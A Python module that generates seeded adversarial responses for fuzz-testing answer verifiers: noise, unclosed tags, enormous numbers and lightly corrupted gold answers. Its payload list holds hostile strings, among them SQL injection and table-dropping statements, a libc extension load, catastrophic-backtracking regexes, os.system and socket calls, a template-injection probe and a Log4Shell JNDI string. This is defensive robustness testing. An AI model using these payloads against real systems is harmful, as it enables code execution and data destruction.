"""Responses that no honest model would write, to try verifiers with: seeded, so that a finding can be found again.

Noise, tags that never close, numbers with thousands of digits, towers of powers, SQL and regular expressions that
explode, code that would touch a file, and gold answers with a few characters changed, which get furthest into a
verifier. Most are short; a few are long enough that anything but linear time shows.
"""

from collections.abc import Callable, Iterator
from random import Random

from stillroom.seeds import derive_rng

LONGEST = 20_000
"""Characters, about; one response in two hundred is this long."""

_TAGS = (
    "<think>",
    "</think>",
    "<summary>",
    "</summary>",
    "\\boxed{",
    "}",
    "{",
    "####",
    "The answer is",
    "<<",
    ">>",
    "```",
)
_BOMBS = (
    "9**9**9",
    "9^{9^{9^{9^9}}}",
    "(10!)!!!",
    "\\binom{10^9}{10^8}",
    "1/0",
    "1e999999999",
    "-0x" + "f" * 60,
    "\\frac{\\frac{\\frac{1}{0}}{0}}{0}",
    "\\sqrt{\\sqrt{\\sqrt{\\sqrt{-1}}}}",
    "\\sum_{n=1}^{10^{100}} n!",
    "SELECT * FROM a, a AS b, a AS c, a AS d, a AS e, a AS f, a AS g",
    "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c",
    "ATTACH DATABASE 'hostile.db' AS h; CREATE TABLE h.t(x); DROP TABLE sqlite_master; PRAGMA writable_schema = 1",
    "SELECT load_extension('libc.so.6'); SELECT writefile('hostile.txt', zeroblob(1000000000))",
    "'; DROP TABLE users; --",
    "(a+)+$",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "(.*)*(.*)*(.*)*(.*)*=",
    "__import__('os').system('touch hostile')",
    "open('hostile.txt', 'w').write('x')",
    "import socket; socket.create_connection(('192.0.2.1', 80))",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "%s%s%s%n%x {0.__class__} ${jndi:ldap://192.0.2.1/a}",
)


def responses(golds: list[str], count: int, seed: int = 0) -> Iterator[str]:
    """Hostile responses, each a function of the seed and its number alone.

    Args:
        golds: whole responses that a verifier accepts, to spoil; at least one.
    """
    for number in range(count):
        rng = derive_rng("hostile", seed, number)
        length = LONGEST if number % 200 == 199 else rng.choice((0, 1, 5, 30, 200))
        text = rng.choice(_KINDS)(rng, length, rng.choice(golds))
        where = rng.random()
        # Where a verifier looks for answers, so that it reads the text instead of passing it over.
        yield (
            f"<think>\n\n</think>\n\\boxed{{{text}}}"
            if where < 0.4
            else f"so it is\n#### {text}"
            if where < 0.5
            else text
        )


def _noise(rng: Random, length: int, gold: str) -> str:
    encoding, errors = rng.choice((("latin-1", "strict"), ("utf-16-le", "replace"), ("utf-8", "surrogateescape")))
    return rng.randbytes(length).decode(encoding, errors)


def _symbols(rng: Random, length: int, gold: str) -> str:
    alphabet = rng.choice(
        (" \n", "*-", "[]", "{}()", "0123456789", ".,;:!?\"'", "ab ", "<>/|\\$^_", "\u202e\u0000\ufeff\U0001f600")
    )
    return "".join(rng.choices(alphabet, k=length))


def _one_symbol(rng: Random, length: int, gold: str) -> str:
    return (
        rng.choice(
            ("[", "{", "(", "*", "\n", "-", "9", "a ", ",", '"', "<", "\\boxed{", '{"a":', "<think>", "a.", "\t")
        )
        * length
    )


def _tags(rng: Random, length: int, gold: str) -> str:
    return "".join(rng.choice((*_TAGS, "x", " ", "7")) for _ in range(length // 4 + 1))


def _digits(rng: Random, length: int, gold: str) -> str:
    sign, mark = rng.choice(("", "-", "+", "−", "$")), rng.choice(("", ".", ",", "/", "e", "%"))
    return f"{sign}{'9' * (length + 1)}{mark}{'9' * (length + 1)}"


def _bomb(rng: Random, length: int, gold: str) -> str:
    return rng.choice((" ", "\n", "; ", "+")).join(rng.choices(_BOMBS, k=1 + length // 100))


def _feed(rng: Random, length: int, gold: str) -> str:
    """What makes patterns with nested repetition explode."""
    return rng.choice(("a", "1,", "1.", "A. ", "* a", "- ", "x=", "[a]", "p. ", " of")) * length + rng.choice("!$X\n")


def _spoilt(rng: Random, length: int, gold: str) -> str:
    """A gold response with some characters removed, doubled, moved or replaced."""
    text = list(gold)
    for _ in range(rng.randint(1, 6)):
        at = rng.randrange(len(text) + 1)
        what = rng.randrange(4)
        if what == 0:
            del text[at : at + rng.randint(1, 4)]
        elif what == 1:
            text[at:at] = text[max(0, at - rng.randint(1, 8)) : at]
        elif what == 2:
            text.insert(at, rng.choice((*_TAGS, "\x00", "9" * 50, "−", "É", "\n", ",")))
        else:
            text = text[at:] + text[:at]
    return "".join(text)


_KINDS: tuple[Callable[[Random, int, str], str], ...] = (
    _noise,
    _symbols,
    _one_symbol,
    _tags,
    _digits,
    _bomb,
    _feed,
    _spoilt,
    _spoilt,
)
